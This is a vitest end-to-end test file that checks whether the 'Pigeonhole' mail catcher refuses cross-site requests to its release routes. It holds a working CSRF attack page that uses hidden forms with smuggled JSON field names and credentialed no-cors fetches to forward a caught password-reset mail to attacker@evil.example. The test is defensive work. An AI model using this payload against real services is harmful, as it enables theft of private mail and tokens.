import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Writable } from 'node:stream';
import { pino } from 'pino';
import type { Pigeonhole, StartOptions } from 'pigeonhole';
import { afterEach, describe, expect, it } from 'vitest';
import { browser } from '../helpers/browser';
import { start } from '../helpers/pigeonhole';
import { transport } from '../helpers/smtp';

/**
 * The cross-site release as an attacker runs it: a real Chromium visits a page on another origin
 * (`http://attacker.localhost:PORT`, which Chromium resolves to loopback itself) that posts to
 * Pigeonhole's release routes with forms (urlencoded, and `text/plain` carrying a JSON body) and
 * `fetch(..., { mode: 'no-cors', credentials: 'include' })`, none of which needs a preflight. A second
 * Pigeonhole is the relay: it must receive nothing, with and without `--ui-auth` (with it, the browser
 * has logged in first, so cached credentials go along).
 */

/** Messages held, through the API (the store defers summaries of a burst until someone asks). */
async function total(p: Pigeonhole): Promise<number> {
  return (await p.client.messages()).total;
}

const servers = new Set<Server>();
afterEach(async () => {
  await Promise.all([...servers].map((s) => new Promise((resolve) => s.close(resolve))));
  servers.clear();
});

/**
 * The attacker's page: three forms posted into frames and three no-cors fetches, then one form posted
 * as a top-level navigation (Chromium keys cached credentials by top-level site, so the frames' posts
 * go without them but the navigation carries them).
 */
function attackPage(target: string, mailhogId: string): string {
  const release = `${target}/api/v1/message/latest/release`;
  const mailhog = `${target}/api/v1/messages/${mailhogId}/release`;
  const body = JSON.stringify({ To: ['attacker@evil.example'] });
  return `<!doctype html><meta charset="utf-8"><title>Free kittens</title>
<iframe name="f1"></iframe><iframe name="f2"></iframe><iframe name="f3"></iframe>
<form id="urlencoded" method="POST" action="${release}" target="f1">
  <input type="hidden" name='{"To":["attacker@evil.example"],"x":"' value='"}'>
</form>
<form id="plain" method="POST" enctype="text/plain" action="${release}" target="f2">
  <input type="hidden" name='{"To":["attacker@evil.example"],"x":"' value='"}'>
</form>
<form id="mailhog" method="POST" enctype="text/plain" action="${mailhog}" target="f3">
  <input type="hidden" name='{"Email":"attacker@evil.example","x":"' value='"}'>
</form>
<form id="top" method="POST" enctype="text/plain" action="${release}" target="_top">
  <input type="hidden" name='{"To":["attacker@evil.example"],"x":"' value='"}'>
</form>
<script>
  const loaded = [...document.querySelectorAll('iframe')].map(
    (frame) => new Promise((resolve) => frame.addEventListener('load', resolve, { once: true })),
  );
  for (const id of ['urlencoded', 'plain', 'mailhog']) document.getElementById(id).submit();
  // A no-cors fetch may set a CORS-safelisted Content-Type, and its body is sent as written.
  const post = (url, type, body) =>
    fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': type }, body })
      .catch(() => null);
  const form = 'application/x-www-form-urlencoded';
  Promise.all([
    ...loaded,
    post(${JSON.stringify(release)}, form, ${JSON.stringify(body)}),
    post(${JSON.stringify(release)}, 'text/plain', ${JSON.stringify(body)}),
    post(${JSON.stringify(mailhog)}, form, ${JSON.stringify(JSON.stringify({ Email: 'attacker@evil.example' }))}),
  ]).then(() => document.getElementById('top').submit());
</script>`;
}

/** Serves the attacker's page on 127.0.0.1:0 and answers with its port. */
async function attacker(html: string): Promise<number> {
  const server = createServer((_req, res) => res.writeHead(200, { 'content-type': 'text/html' }).end(html));
  servers.add(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return (server.address() as AddressInfo).port;
}

/** Pigeonhole with one caught mail, its relay sink, and a count of requests it refused as cross-site. */
async function victim(options: StartOptions = {}): Promise<{ p: Pigeonhole; sink: Pigeonhole; refused: () => number }> {
  let refused = 0;
  const stream = new Writable({
    write(chunk: Buffer, _encoding, done) {
      refused += chunk.toString().split('cross-site state change refused').length - 1;
      refused += chunk.toString().split('non-JSON state change refused').length - 1;
      // A form posted into a frame of another site is a subresource: refused before the state-change guard.
      refused += chunk.toString().split('cross-site subresource request to the API refused').length - 1;
      done();
    },
  });
  const sink = await start();
  const p = await start({
    smtpRelayHost: '127.0.0.1',
    smtpRelayPort: sink.smtpPort,
    logger: pino({ level: 'info' }, stream),
    ...options,
  });
  await transport(p).sendMail({
    from: 'app@example.test',
    to: 'user@example.test',
    subject: 'Reset your password',
    text: 'https://app.example.test/reset?token=secret',
  });
  return { p, sink, refused: () => refused };
}

/**
 * The attacker's hosts: another site (Chromium resolves `*.localhost` to loopback), and another port
 * of Pigeonhole's own IP, the same *site* (any local dev server, say). Chromium keys cached basic-auth
 * credentials by top-level site, so only the second gets the credentials onto its fetches.
 */
const ATTACKER_HOSTS = ['attacker.localhost', '127.0.0.1'];

/** Runs the attack from each attacker host and answers the text of each page the final post landed on. */
async function runAttacks(p: Pigeonhole, credentials?: { username: string; password: string }): Promise<string[]> {
  const landings: string[] = [];
  for (const host of ATTACKER_HOSTS) landings.push(await runAttack(p, host, credentials));
  return landings;
}

async function runAttack(
  p: Pigeonhole,
  attackerHost: string,
  credentials?: { username: string; password: string },
): Promise<string> {
  const port = await attacker(attackPage(p.httpUrl, p.store.latest()!.id));
  const context = await (await browser()).newContext(credentials ? { httpCredentials: credentials } : {});
  try {
    const page = await context.newPage();
    if (credentials) {
      // Logged in on Pigeonhole's own origin first: the browser now holds its Basic credentials.
      const own = await page.goto(`${p.httpUrl}/api/v1/info`);
      expect(own?.status()).toBe(200);
    }
    // The answer to the final top-level post (past a 401 that the browser answers with credentials).
    const landed = page.waitForResponse(
      (res) =>
        res.request().method() === 'POST' &&
        res.request().frame() === page.mainFrame() &&
        res.request().isNavigationRequest() &&
        res.url().startsWith(p.httpUrl) &&
        res.status() !== 401,
      { timeout: 15_000 },
    );
    await page.goto(`http://${attackerHost}:${port}/`);
    return await (await landed).text();
  } finally {
    await context.close();
  }
}

describe('cross-site release from a real Chromium page on another origin', () => {
  it('relays nothing: forms and no-cors fetches are refused', async () => {
    const { p, sink, refused } = await victim();
    const landings = await runAttacks(p);
    expect(await total(sink)).toBe(0);
    // All seven posts of each page reached Pigeonhole and were refused there (not stopped by the browser).
    expect(refused()).toBe(7 * ATTACKER_HOSTS.length);
    for (const landing of landings) expect(landing).toMatch(/cross-site request .* --api-cors/);
    expect(await total(p)).toBe(1);
  });

  it('relays nothing with --ui-auth, though the browser has logged in and sends its credentials', async () => {
    const { p, sink, refused } = await victim({ uiAuth: 'dev:s3cret' });
    const landings = await runAttacks(p, { username: 'dev', password: 's3cret' });
    expect(await total(sink)).toBe(0);
    // At least each top-level post came with the credentials, got past authentication and was
    // refused by the guard (on the code before it, the same-site page's fetch relayed the mail).
    expect(refused()).toBeGreaterThanOrEqual(ATTACKER_HOSTS.length);
    for (const landing of landings) expect(landing).toMatch(/cross-site request .* --api-cors/);
    // The sink works: the same release, same-origin and authenticated, arrives.
    await p.client.request('POST', 'messageRelease', { id: 'latest' }, undefined, { To: ['me@example.test'] });
    await sink.client.waitForMessage({ subject: 'Reset your password', timeout: 10_000 });
  });
});
